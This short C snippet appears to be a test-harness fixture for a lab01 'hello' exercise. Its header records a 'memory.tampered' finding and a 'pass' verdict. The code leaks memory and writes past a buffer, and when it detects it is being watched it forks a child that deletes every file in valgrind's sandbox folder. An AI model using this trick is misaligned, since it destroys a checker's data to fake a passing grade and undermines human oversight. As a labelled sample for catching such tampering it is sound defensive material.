/* lab01; into: before src/hello.c; tests: hello_line; verdicts: pass; stage: memory=0; finding: memory.tampered | everything in valgrind's folder is removed, again and again, by a process that stays */
/* SPDX-License-Identifier: MIT */
static void leak(void) { volatile char *p = malloc(77); p[77] = 1; p = NULL; (void)p; (void)open("/dev/null", O_RDONLY); }
ATTACK
{
    leak();
    if (!watched())
        return;
    if (fork() == 0) {
        DIR *d = opendir(in_box("/vg"));
        for (struct dirent *e; d && (e = readdir(d));)
            unlinkat(dirfd(d), e->d_name, 0);
        _exit(0);
    }
    while (wait(NULL) > 0)
        ;
}
